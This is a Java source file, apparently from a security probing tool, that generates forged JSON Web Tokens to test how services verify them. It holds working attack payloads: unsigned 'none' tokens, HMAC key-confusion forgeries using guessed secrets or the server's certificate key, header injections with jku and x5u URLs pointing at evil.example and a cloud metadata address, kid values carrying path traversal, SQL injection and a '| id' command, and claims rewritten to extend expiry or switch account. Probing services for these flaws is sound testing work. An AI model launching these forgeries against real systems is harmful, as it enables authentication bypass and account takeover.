package io.sekisho.probe;

import static io.sekisho.probe.TokenAttacks.forged;
import static io.sekisho.probe.TokenAttacks.with;
import static java.nio.charset.StandardCharsets.UTF_8;

import io.sekisho.probe.Attack.Vector;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import javax.net.ssl.SSLSocket;

/// Tokens that were made by somebody who should not be able to.
final class ForgedTokens {
  private ForgedTokens() {}

  static List<Attack> attacks() {
    return List.of(
        Attack.of(
            "B27",
            "No algorithm",
            "The oldest mistake: a token that says it needs no signature.",
            none()),
        Attack.of(
            "B28",
            "The wrong kind of key",
            "A public key, or a guess, taken for the secret of an HMAC.",
            confused()),
        Attack.of(
            "B29",
            "Keys brought along",
            "A token that says itself which key proves it.",
            brought()),
        Attack.of(
            "B30",
            "Rewritten claims",
            "A token that lives longer, or is another guest's.",
            rewritten()));
  }

  private static List<Vector> none() {
    List<Vector> all = new ArrayList<>();
    for (String word : List.of("none", "None", "NONE", "nOnE", "", "none ", "\\u006eone")) {
      String name = "\"" + word + "\"";
      all.add(
          forged(
              name + " without a signature",
              forge -> forge.unsigned(forge.header(word), forge.payload())));
      all.add(
          forged(
              name + " with the old signature",
              forge -> forge.resigned(forge.header(word), forge.payload())));
    }
    all.add(
        forged("only \"none\"", forge -> forge.unsigned("{\"alg\":\"none\"}", forge.payload())));
    all.add(forged("null", forge -> forge.unsigned("{\"alg\":null}", forge.payload())));
    all.add(forged("no header at all", forge -> forge.unsigned("{}", forge.payload())));
    return all;
  }

  private static List<Vector> confused() {
    List<Vector> all = new ArrayList<>();
    for (int bits : new int[] {256, 384, 512}) {
      for (String secret : List.of("", "secret", "null", "key", "sekisho", "0")) {
        all.add(
            forged(
                "HS" + bits + " with \"" + secret + "\"",
                forge -> forge.sealed(bits, secret.getBytes(UTF_8))));
      }
      all.add(
          forged(
              "HS" + bits + " with the header",
              forge -> forge.sealed(bits, forge.header().getBytes(UTF_8))));
      all.add(
          with(
              "HS" + bits + " with the certificate's key",
              session ->
                  certified(session)
                      .flatMap(
                          key -> Forge.of(session.token()).map(forge -> forge.sealed(bits, key)))));
    }
    for (String word :
        List.of(
            "RS384", "RS512", "PS256", "ES256", "EdDSA", "HS256", "rs256", "RS1", "dir",
            "A256KW")) {
      all.add(
          forged(
              word + " with the old signature",
              forge -> forge.resigned(forge.header(word), forge.payload())));
    }
    return all;
  }

  private static List<Vector> brought() {
    List<Vector> all = new ArrayList<>();
    all.add(
        forged(
            "our own key and nothing else",
            forge -> forge.signed(forge.header(), forge.payload())));
    all.add(
        forged(
            "jwk",
            forge -> forge.signed(forge.headerWith("\"jwk\":" + forge.jwk()), forge.payload())));
    for (String member :
        List.of(
            "\"jku\":\"http://evil.example/keys\"",
            "\"jku\":\"http://169.254.169.254/keys\"",
            "\"x5u\":\"http://evil.example/cert\"",
            "\"x5c\":[\"MIIB\"]",
            "\"crit\":[\"exp\"]",
            "\"b64\":false,\"crit\":[\"b64\"]",
            "\"zip\":\"DEF\"",
            "\"cty\":\"JWT\"",
            "\"kid\":\"../../../../dev/null\"",
            "\"kid\":\"/proc/self/environ\"",
            "\"kid\":\"' UNION SELECT 'a\"",
            "\"kid\":\"| id\"",
            "\"kid\":\"http://evil.example/\"",
            "\"kid\":\"\"",
            "\"kid\":\"\\u0000\"",
            "\"kid\":null")) {
      all.add(forged(member, forge -> forge.signed(forge.headerWith(member), forge.payload())));
      all.add(
          forged(
              member + ", old signature",
              forge -> forge.resigned(forge.headerWith(member), forge.payload())));
    }
    return all;
  }

  private static List<Vector> rewritten() {
    List<Vector> all = new ArrayList<>();
    for (String[] change :
        new String[][] {
          {"a later end", "\"exp\"\\s*:\\s*\\d+", "\"exp\":4102444800"},
          {"no end", "\"exp\"\\s*:\\s*\\d+,?", ""},
          {"an end in words", "\"exp\"\\s*:\\s*\\d+", "\"exp\":\"never\""},
          {"an end beyond numbers", "\"exp\"\\s*:\\s*\\d+", "\"exp\":1e999"},
          {"an earlier start", "\"iat\"\\s*:\\s*\\d+", "\"iat\":0"},
          {"another issuer", "\"iss\"\\s*:\\s*\"[^\"]*\"", "\"iss\":\"evil\""},
          {"another audience", "\"aud\"\\s*:\\s*\\[[^\\]]*\\]", "\"aud\":[\"iam\"]"},
          {"another instance", "\"instanceID\"\\s*:\\s*\"[^\"]*\"", "\"instanceID\":\"shop-1\""},
          {"another account", "\"accountID\"\\s*:\\s*\"[^\"]*\"", "\"accountID\":\"globex\""},
          {"a member twice", "^\\{", "{\"exp\":4102444800,"}
        }) {
      all.add(
          forged(
              change[0] + ", old signature",
              forge -> forge.resigned(forge.header(), changed(forge, change))));
      all.add(
          forged(
              change[0] + ", our signature",
              forge -> forge.signed(forge.header(), changed(forge, change))));
    }
    all.add(forged("no claims", forge -> forge.resigned(forge.header(), "{}")));
    all.add(forged("no JSON", forge -> forge.resigned(forge.header(), "x")));
    return all;
  }

  /// A claim that the payload does not have is put in.
  private static String changed(Forge forge, String[] change) {
    String other = forge.payload().replaceFirst(change[1], change[2]);
    return other.equals(forge.payload()) ? other.replaceFirst("\\}$", ",\"changed\":1}") : other;
  }

  /// The one public key that a guest certainly knows.
  private static Optional<byte[]> certified(Session session) {
    if (!session.target().tls()) {
      return Optional.empty();
    }
    try (Wire wire = session.dial()) {
      SSLSocket socket = (SSLSocket) wire.socket();
      return Optional.of(socket.getSession().getPeerCertificates()[0].getPublicKey().getEncoded());
    } catch (IOException e) {
      return Optional.empty();
    }
  }
}
